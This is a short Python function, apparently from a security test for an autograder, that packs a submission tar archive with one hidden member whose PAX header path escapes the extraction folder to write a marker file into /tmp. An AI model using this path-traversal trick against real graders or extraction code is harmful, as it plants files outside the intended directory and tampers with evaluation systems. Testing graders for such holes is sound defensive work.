"""Packs the attack: gets the honest files and a folder, gives what is handed in."""

import io
import tarfile


def pack(files, folder):
    with tarfile.open(folder / "work.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        for path, content in [*files.items(), ("mytorch/extra.py", b"GAINED = 1")]:
            member = tarfile.TarInfo(path)
            member.size = len(content)
            if path == "mytorch/extra.py":
                member.pax_headers = {"path": "../../../tmp/autograder-left-behind"}
            tar.addfile(member, io.BytesIO(content))
    return folder / "work.tar"
